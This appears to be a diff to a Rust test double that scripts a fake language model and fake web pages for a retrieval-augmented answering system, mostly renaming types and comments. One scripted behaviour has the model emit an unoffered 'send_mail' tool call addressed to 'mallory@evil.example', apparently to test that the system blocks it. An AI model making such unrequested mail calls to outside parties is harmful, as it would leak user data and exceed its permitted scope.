@@ -1,12 +1,12 @@
-//! A model and pages that do as they are told.
+//! Scripted model and pages.
 
 use async_trait::async_trait;
 use domain::ai_provider::{AiProvider, AiProviderSpec, Role};
-use domain::contracts::{
-    ModelError, ModelErrorKind, PageError, PageProbe, PageText, PageWanted, Piece, Prompt, ReadPages, Turn,
-    WriterWanted, Writers, Writing,
-};
 use domain::ids::{AiProviderId, UserId};
+use domain::ports::{
+    Completion, CompletionChunk, DocumentRequest, GenerativeModels, ModelError, ModelErrorKind, ModelRequest,
+    PageError, PageProbe, PageText, Prompt, ReadPages, Turn,
+};
 use domain::provider::SearchProvider;
 use domain::result::ResultItem;
 use futures_util::StreamExt;
@@ -16,19 +16,19 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
-/// How the model behaves.
+/// Behavior of the model.
 #[derive(Debug, Clone)]
 pub enum Manner {
-    /// Writes these pieces, each after a while.
+    /// Sends these chunks, each after a delay.
     Says(Vec<&'static str>, Duration),
-    /// Writes the first piece and then nothing more.
+    /// Sends the first chunk and then hangs.
     StopsAfter(&'static str),
     Fails(ModelErrorKind),
-    /// Writes the first piece and then fails.
+    /// Sends the first chunk and then fails.
     BreaksOff(&'static str),
-    /// There is none.
+    /// No model is configured.
     Missing,
-    /// Calls a tool that nobody offered, and writes.
+    /// Calls a tool that was not offered, and replies.
     CallsATool,
 }
 
@@ -36,9 +36,9 @@ pub struct Model {
     pub manner: Mutex<Manner>,
     pub model: Mutex<&'static str>,
     pub overrides: Mutex<AiProviderSpec>,
-    /// What it was sent.
+    /// The prompts it received.
     pub prompts: Mutex<Vec<Prompt>>,
-    /// Answers that are being written.
+    /// Completions in progress.
     pub open: Arc<AtomicUsize>,
     pub open_most: Arc<AtomicUsize>,
 }
@@ -67,7 +67,7 @@ impl Model {
     }
 
     /// The last prompt as text.
-    pub fn heard(&self) -> String {
+    pub fn last_prompt(&self) -> String {
         let prompts = self.prompts.lock().unwrap();
         let prompt = prompts.last().unwrap();
         let turns = prompt.turns.iter().map(|turn| match turn {
@@ -77,8 +77,8 @@ impl Model {
         turns.collect::<Vec<_>>().join("\n")
     }
 
-    /// Waits until the model writes so many answers.
-    pub async fn writes(&self, count: usize) {
+    /// Waits until this many completions are in progress.
+    pub async fn wait_for_completions(&self, count: usize) {
         for _ in 0..500 {
             if self.open.load(Ordering::SeqCst) == count {
                 return;
@@ -107,7 +107,7 @@ impl Model {
     }
 }
 
-/// Counts an answer while it is written.
+/// Counts a completion while it is in progress.
 struct Open(Arc<AtomicUsize>);
 
 impl Drop for Open {
@@ -117,21 +117,21 @@ impl Drop for Open {
 }
 
 #[async_trait]
-impl Writers for Model {
-    async fn chosen(&self, wanted: &WriterWanted) -> Result<AiProvider, ModelError> {
-        assert_eq!(wanted.role, Role::Rag);
+impl GenerativeModels for Model {
+    async fn select(&self, request: &ModelRequest) -> Result<AiProvider, ModelError> {
+        assert_eq!(request.role, Role::Rag);
         match *self.manner.lock().unwrap() {
-            Manner::Missing => Err(ModelError::no_provider(wanted.role)),
+            Manner::Missing => Err(ModelError::no_provider(request.role)),
             _ => Ok(self.provider()),
         }
     }
 
-    async fn write(&self, _wanted: &WriterWanted, prompt: &Prompt) -> Result<Writing, ModelError> {
+    async fn complete(&self, _request: &ModelRequest, prompt: &Prompt) -> Result<Completion, ModelError> {
         self.prompts.lock().unwrap().push(prompt.clone());
         let error = |kind| ModelError::new(kind, "the service answered 500");
-        let text = |text: &str| Ok(Piece::Text(text.to_owned()));
-        let (pieces, every, ends) = match self.manner.lock().unwrap().clone() {
-            Manner::Says(pieces, every) => (pieces.into_iter().map(text).collect::<Vec<_>>(), every, true),
+        let text = |text: &str| Ok(CompletionChunk::Text(text.to_owned()));
+        let (chunks, every, ends) = match self.manner.lock().unwrap().clone() {
+            Manner::Says(chunks, every) => (chunks.into_iter().map(text).collect::<Vec<_>>(), every, true),
             Manner::StopsAfter(first) => (vec![text(first)], Duration::ZERO, false),
             Manner::Fails(kind) => return Err(error(kind)),
             Manner::BreaksOff(first) => {
@@ -139,28 +139,32 @@ impl Writers for Model {
             }
             Manner::Missing => return Err(ModelError::no_provider(Role::Rag)),
             Manner::CallsATool => {
-                let call = domain::contracts::ToolCall {
+                let call = domain::ports::ToolCall {
                     id: "1".to_owned(),
                     name: "send_mail".to_owned(),
                     arguments: serde_json::json!({"to": "mallory@evil.example"}),
                 };
-                (vec![Ok(Piece::Call(call)), text("The river rises in spring [1].")], Duration::ZERO, true)
+                (
+                    vec![Ok(CompletionChunk::Call(call)), text("The river rises in spring [1].")],
+                    Duration::ZERO,
+                    true,
+                )
             }
         };
         let count = self.open.fetch_add(1, Ordering::SeqCst) + 1;
         self.open_most.fetch_max(count, Ordering::SeqCst);
         let open = Open(Arc::clone(&self.open));
-        let written = stream::iter(pieces).then(move |piece| async move {
+        let written = stream::iter(chunks).then(move |chunk| async move {
             tokio::time::sleep(every).await;
-            piece
+            chunk
         });
         let rest = if ends { stream::empty().boxed() } else { stream::pending().boxed() };
-        let pieces = written.chain(rest).inspect(move |_| {
+        let chunks = written.chain(rest).inspect(move |_| {
             let _held_while_written = &open;
         });
         let provider = self.provider();
         let requested_model = provider.spec.model.clone();
-        Ok(Writing { provider, requested_model, fallback_engaged: false, pieces: pieces.boxed() })
+        Ok(Completion { provider, requested_model, fallback_engaged: false, chunks: chunks.boxed() })
     }
 
     fn count_tokens(&self, _provider: &AiProvider, text: &str) -> usize {
@@ -172,20 +176,20 @@ impl Writers for Model {
     }
 }
 
-/// What the pages hold, by address; all others cannot be fetched.
+/// Page texts by URL; all others cannot be fetched.
 #[derive(Default)]
 pub struct Pages {
     pub texts: BTreeMap<&'static str, &'static str>,
-    /// Addresses that never answer.
+    /// URLs that never respond.
     pub slow: Vec<&'static str>,
     pub read: Mutex<Vec<(String, Duration, UserId)>>,
 }
 
 #[async_trait]
 impl ReadPages for Pages {
-    async fn read(&self, wanted: &PageWanted<'_>) -> Result<PageText, PageError> {
-        let url = wanted.target.address();
-        self.read.lock().unwrap().push((url.to_owned(), wanted.time_max, wanted.user));
+    async fn read(&self, request: &DocumentRequest<'_>) -> Result<PageText, PageError> {
+        let url = request.target.address();
+        self.read.lock().unwrap().push((url.to_owned(), request.time_max, request.user));
         if self.slow.contains(&url) {
             std::future::pending::<()>().await;
         }
@@ -199,7 +203,7 @@ impl ReadPages for Pages {
         }
     }
 
-    async fn probe(&self, _wanted: &PageWanted<'_>) -> Result<PageProbe, PageError> {
+    async fn probe(&self, _wanted: &DocumentRequest<'_>) -> Result<PageProbe, PageError> {
         Err(PageError::NoAddress)
     }
 
